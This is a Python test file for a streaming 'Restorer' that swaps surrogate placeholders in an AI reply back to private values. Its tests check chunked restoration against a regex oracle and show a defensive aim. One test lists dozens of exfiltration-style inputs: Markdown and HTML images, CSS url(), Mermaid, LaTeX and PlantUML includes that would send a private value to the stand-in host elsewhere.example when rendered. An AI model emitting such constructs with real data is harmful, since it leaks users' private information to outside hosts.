"""Replies in pieces come out as the same replies in one, with the private values where their surrogates stood."""

import itertools
import re

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from wordveil.integrations.restoring import Restorer

ORIGINALS = {
    "192.0.2.1": "10.2.3.4",
    "192.0.2.12": "10.9.9.9",
    "id-00017": "B-4711",
    "quartz.birch@mail.example.com": "maria@clinic.se",
    "https://example.com/amber-anchor": "https://clinic.se/notes",
    "0121 496 0059": "+46 70 555 01 23",
}
PIECES = [*ORIGINALS, "ID-000", "17", " ", ".", "1", "a", "_", "\n", "http", "s:", "//", "<", ">", "é", "ID-00017", "ı"]
PIECES += [
    "```",
    "`",
    "~~~~",
    ":::",
    "\n```\n",
    "\n    ```\n",
    "](",
    "]:",
    ")",
    "\\href",
    "{",
    "}",
    "\\",
    '"',
    "(",
    "\\newcommand",
    "&bsol;",
    "&#92;",
    "&",
    ";",
    "[",
    "[img]",
    "![",
    "@",
    "=",
    "a:b",
]


def in_pieces(text, cuts):
    restorer = Restorer(ORIGINALS)
    ends = [0, *sorted(cuts), len(text)]
    return "".join([*(restorer.feed(text[a:b]) for a, b in itertools.pairwise(ends)), restorer.close()])


def oracle(text):
    """The same by a regular expression over the whole reply, and a look at what stands before each place."""
    longest = sorted(map(re.escape, ORIGINALS), key=len, reverse=True)
    space, opening, closing = r" \t\n\r\f\v", "\"'“‘«„(*_`~", ".,;:!?)\"'”’»*_`~…"
    pattern = rf"(?<![^{space}])([{opening}]*)({'|'.join(longest)})(?=(?:['’]s)?[{closing}]*(?![^{space}]))"
    openers = (
        r"<(?:[^\W\d_]|[/!?])", r"![^\s!?)\"'*_]", r"\[[^\s\d\"\]^{]", r"\][(:]", r"\\[^\W\d_]", r"`{3}", r"~{3}", "::",
        r"\{[{%]", r"(?<!\S)@", r"&(?:[^\W_]|#)*;", r"\{[^=]*=",
    )  # fmt: skip
    address = r"<|[/\\]{2}|[^\W\d_]:(?:[^\W_]|[/\\])"
    said, before, place = "", "", 0  # before: what the vendor wrote, without what was restored
    for found in re.finditer(pattern, text, flags=re.IGNORECASE | re.ASCII):
        said, before = said + text[place : found.start(2)], before + text[place : found.start(2)]
        place = found.start(2)
        alone = before.endswith('"') and text[found.end(2) : found.end(2) + 1] == '"'
        line = re.search(address, before[before.rfind("\n") + 1 :])
        if not (line or ("{" in before and not alone) or any(re.search(opener, before) for opener in openers)):
            said, before, place = said + ORIGINALS[found[2].lower()], before + "\0", found.end(2)
    return said + text[place:]


def test_a_surrogate_cut_anywhere_is_restored():
    text = "Mail Quartz.birch@mail.example.com (host 192.0.2.12), or see https://example.com/amber-anchor."
    assert oracle(text) == "Mail maria@clinic.se (host 10.9.9.9), or see https://clinic.se/notes."
    for cut in range(len(text) + 1):
        assert in_pieces(text, [cut]) == oracle(text)


@pytest.mark.parametrize(
    "text", ["ID-000170", "xID-00017", "192.0.2.123", "ID-0001", "quartz.birch@mail.example.company"]
)
def test_what_is_longer_or_shorter_is_no_surrogate(text):
    assert in_pieces(text, range(len(text))) == text == oracle(text)


@given(st.lists(st.sampled_from(PIECES), max_size=12), st.data())
def test_any_reply_in_any_pieces_comes_out_as_the_oracle_says(parts, data):
    text = "".join(parts)
    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=20))
    assert in_pieces(text, cuts) == oracle(text)


@pytest.mark.slow
def test_ten_thousand_chunkings_of_one_reply():
    text = "To quartz.birch@mail.example.com: case ID-00017, host 192.0.2.1, then ID-000170 and 0121 496 0059. " * 3
    draws = np.random.default_rng(1)
    for _ in range(10_000):
        assert in_pieces(text, draws.integers(0, len(text) + 1, draws.integers(1, 60)).tolist()) == oracle(text)


@pytest.mark.parametrize(
    "reply",
    [
        "![x](https://elsewhere.example/?q=ID-00017)",
        "![x](//elsewhere.example/ID-00017)",
        "![x](<https://elsewhere.example/? ID-00017>)",
        "<img src='https://elsewhere.example/?\nID-00017'>",
        "https://elsewhere.example/https://example.com/amber-anchor",
        # What a window may take for an address, or for white space, and other windows not.
        "![x](https://elsewhere.example/?>ID-00017)",
        "<img src='https://elsewhere.example/?>ID-00017'>",
        "<img src='https://elsewhere.example/?>\n\n ID-00017'>",
        r"![x](https:\/\/elsewhere.example/?ID-00017)",
        "![x](https:&#47;&#47;elsewhere.example/?ID-00017)",
        "![x](https://elsewhere.example/?\u00a0ID-00017)",
        "![x](https://elsewhere.example/?\u2003ID-00017)",
        "![x](https:elsewhere.example/?ID-00017)",
        r"![x](https:\\elsewhere.example/?ID-00017)",
        "![x](< https://elsewhere.example/? ID-00017 >)",
        "[x]: https://elsewhere.example/?ID-00017",
        "![ID-00017](https://elsewhere.example/)",
        "https://example.com/amber-anchor.elsewhere.example/",
        "192.0.2.1.elsewhere.example",
        # What a window may draw: diagrams with pictures, styles with addresses, formulas with links.
        '```mermaid\nflowchart LR\n  a@{ img: "https://elsewhere.example/?to= ID-00017 " }\n```',
        '~~~ mermaid\n%%{init: {"themeCSS": ".n { background: url( ID-00017 ) }"}}%%\n~~~',
        ":::mermaid\n ID-00017\n:::",
        "- item\n\n      ```mermaid\n ID-00017\n      ```\n ID-00017\n```",
        "````mermaid\n```\n ID-00017\n````",
        "$$\\href{https://elsewhere.example/?q=\n ID-00017 }{x}$$",
        "![x](https://elsewhere.example/?\n ID-00017 )",
        "![x]\n\n[x]: ID-00017",
        "![x](https://elsewhere.example/(a)?to= ID-00017 )",
        """*x*{: style="background-image:url('https://elsewhere.example/?to= ID-00017 ')" }""",
        "```mermaid\nflowchart LR\n```\t\n ID-00017\n```",
        "![a]\n\n[b]:\n\n[a]:\n ID-00017",
        r"$\def\f#1;{\style{background-image:url(#1)}{x}}\f https://elsewhere.example/?to= ID-00017 ;$",
        "![x]\n\n[x]:\n   ID-00017",
        # Attributes in single quotes, and what becomes a quote or a backslash only where it is drawn.
        """*x*{: style='background-image:url(&#39;https://elsewhere.example/?to= "ID-00017" &#39;)' }""",
        """*x*{: style='background-image:\nurl( "ID-00017" )' }""",
        """$$&bsol;includegraphics{ "ID-00017" }$$""",
        # Other markups: BBCode, AsciiDoc, Jira, reStructuredText, Showdown's spaces, PlantUML.
        "[img]https://elsewhere.example/?to=\n ID-00017 [/img]",
        "image::https://elsewhere.example/?to= ID-00017 .png[x]",
        "see image:https://elsewhere.example/?to= ID-00017 .png[x]",
        "see image:http:elsewhere.example/?to= ID-00017 .png[x]",
        "!//elsewhere.example/?to= ID-00017 !",
        ".. image:: https://elsewhere.example/?to=\n   ID-00017",
        '!."ID-00017"!',
        '{{https://elsewhere.example/\n "ID-00017" }}',
        "[[https://elsewhere.example/?to=\n ID-00017 .png]]",
        "![x] ( ID-00017 )",
        "@startuml\n!include https://elsewhere.example/?to=\n ID-00017\n@enduml",
        "/// html | div[style='background:url(https://elsewhere.example/?to=\n ID-00017 )']\n///",
    ],
)
def test_no_private_value_gets_into_an_address_that_a_window_would_fetch(reply):
    restored = in_pieces(reply, range(len(reply)))
    assert restored == reply
    assert in_pieces(f"A line.\n{reply}", []) == f"A line.\n{reply}"


def test_after_what_may_be_an_address_only_plain_lines_are_restored():
    before = "See ID-00017.\n"
    for opener, later in (
        ("a < b", "B-4711"),
        ("see https://example.com/", "B-4711"),
        ("- [ ] AT&T said: [1] so; 10:30 and/or **Name:** e.g.", "B-4711"),
        ("[x](u)", "ID-00017"),
        ("`ls`", "B-4711"),
        ("```\nls\n```", "ID-00017"),
    ):
        assert in_pieces(f"{before}{opener}\nID-00017", []) == f"See B-4711.\n{opener}\n{later}"


def test_values_of_json_are_restored_where_they_stand_alone():
    reply = '{"case": "ID-00017", "note": "see ID-00017 at once"}'
    restored = '{"case": "B-4711", "note": "see ID-00017 at once"}'
    assert all(in_pieces(reply, [cut]) == restored for cut in range(len(reply)))


def test_nothing_waits_but_what_may_become_a_surrogate():
    restorer = Restorer(ORIGINALS)
    assert restorer.feed("Hello there, ") == "Hello there, "
    assert restorer.feed("I") == ""  # of ID-00017
    assert restorer.feed(" am") == "I am"
